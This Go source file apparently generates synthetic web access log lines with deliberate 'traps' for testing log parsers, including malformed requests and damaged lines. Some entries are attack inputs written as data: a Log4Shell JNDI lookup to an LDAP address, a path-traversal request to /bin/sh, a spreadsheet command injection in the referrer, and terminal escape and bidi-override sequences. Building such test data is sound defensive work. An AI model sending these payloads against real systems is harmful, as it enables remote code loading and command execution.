package gen

import (
	"slices"
	"strings"
)

// trap is one of the traps of real logs: none, then fieldTraps, then
// lineTraps.
type trap uint8

const none trap = 0

// drawTrap draws a trap. Half of them sit in a field and leave the line valid,
// half damage the line around its fields.
func drawTrap(s source) trap {
	if n := s.below(2 * len(fieldTraps)); n < len(fieldTraps) {
		return trap(1 + n)
	}
	return trap(1 + len(fieldTraps) + s.below(len(lineTraps)))
}

// damages reports whether a line with the trap is no line of its format.
func (t trap) damages() bool { return int(t) > len(fieldTraps) }

// spring appends l to dst with the trap in it, without a newline. t must not
// be none.
func (t trap) spring(dst []byte, p *printer, l *line) []byte {
	if !t.damages() {
		fieldTraps[t-1](l)
		return p.append(dst, l)
	}
	start := len(dst)
	dst = p.append(dst, l)
	return lineTraps[int(t)-1-len(fieldTraps)](dst, start)
}

// fieldTraps put into a request what servers have really logged.
var fieldTraps = [...]func(*line){
	func(l *line) { l.ask("-", "408") },
	func(l *line) { l.ask("", "400") },
	func(l *line) { l.ask("GET", "400") },
	func(l *line) { l.ask("GET /", "200") },                                            // HTTP/0.9
	func(l *line) { l.ask("quit", "400") },                                             // no HTTP at all
	func(l *line) { l.ask(`\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x9B`, "400") }, // TLS, escaped by nginx
	func(l *line) { l.ask("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9b", "400") }, // TLS, raw
	func(l *line) { l.ask("GET /a page with spaces.html HTTP/1.1", "404") },            // spaces
	func(l *line) { l.ask("CONNECT www.example.com:443 HTTP/1.1", "405") },             // authority form
	func(l *line) { l.ask("GET http://www.example.com/?a=1 HTTP/1.1", "200") },         // absolute form
	func(l *line) { l.ask("OPTIONS * HTTP/1.1", "200") },                               // asterisk form
	func(l *line) { l.ask(`GET /q?s=\"quoted\" HTTP/1.1`, "200") },                     // quotes, escaped by Apache
	func(l *line) { l.ask(`GET /q?s=\x22quoted\x22 HTTP/1.1`, "200") },                 // quotes, escaped by nginx
	func(l *line) { l.ask(`GET /back\\slash\\ HTTP/1.1`, "404") },
	func(l *line) { l.ask("GET /\xff\xfe\xc3\x28 HTTP/1.1", "404") },                    // not UTF-8
	func(l *line) { l.ask("GET /\x1b]0;title\a\x1b[2J HTTP/1.1", "404") },               // terminal escapes
	func(l *line) { l.ask("GET /\u202egnp.exe HTTP/1.1", "404") },                       // bidirectional override
	func(l *line) { l.ask("GET /"+strings.Repeat("long%20", 1170)+" HTTP/1.1", "414") }, // 8 KiB
	func(l *line) { l.ask("GET /${jndi:ldap://192.0.2.1/a} HTTP/1.1", "404") },
	func(l *line) { l.ask("POST /cgi-bin/.%2e/%2e%2e/bin/sh?=HYPERLINK() HTTP/1.1", "400") },
	func(l *line) { l.status = "000" },
	func(l *line) { l.status = "0" },
	func(l *line) { l.status = "444" },
	func(l *line) { l.status = "499" },
	func(l *line) { l.bytes = dashBytes },
	func(l *line) { l.bytes = 1<<31 - 1 },
	func(l *line) { l.client = append(l.client[:0], "fe80::1ff:fe23:4567:890a%eth0"...) },
	func(l *line) { l.client = append(l.client[:0], "::ffff:192.0.2.7"...) },
	func(l *line) { l.client = append(l.client[:0], "crawler-7.example.net"...) },
	func(l *line) { l.user = "Jane Q. Public" },
	func(l *line) { l.user = `""` },
	func(l *line) { l.agent = l.agent[:0] },
	func(l *line) { l.agent = append(l.agent[:0], `Mozilla/4.0 (\"quoted\" \\ \")`...) },
	func(l *line) { l.agent = append(l.agent[:0], `\x22Mozilla/5.0\x22 \xE2\x9C\x93`...) },
	func(l *line) { l.referrer = append(l.referrer[:0], "=cmd|' /C calc'!A0"...) },
}

// ask makes request the line's raw request, answered with status.
func (l *line) ask(request, status string) {
	l.request = append(l.request[:0], request...)
	l.status = status
}

// lineTraps change the line that starts at start, or put something else in
// its place.
var lineTraps = [...]func(dst []byte, start int) []byte{
	func(dst []byte, start int) []byte { return dst[:start] },                    // blank
	func(dst []byte, start int) []byte { return append(dst, '\r') },              // CRLF
	func(dst []byte, start int) []byte { return dst[:len(dst)-1] },               // agent without its closing quote
	func(dst []byte, start int) []byte { return dst[:start+(len(dst)-start)/2] }, // the writer died
	func(dst []byte, start int) []byte { // a hole left by copytruncate
		return slices.Insert(dst, start, make([]byte, 300)...)
	},
	func(dst []byte, start int) []byte { // a collector quoted the line
		return append(slices.Insert(dst, start, '"'), '"')
	},
	func(dst []byte, start int) []byte {
		return append(dst[:start], "2026/03/01 00:00:00 logrotate: rotated /var/log/nginx/access.log"...)
	},
	func(dst []byte, start int) []byte {
		return append(dst[:start], "# this line is a comment"...)
	},
	func(dst []byte, start int) []byte {
		return append(dst[:start], "\x7fELF\x02\x01\x01\x00\xde\xad\xbe\xef garbage \"[ ] 200"...)
	},
}
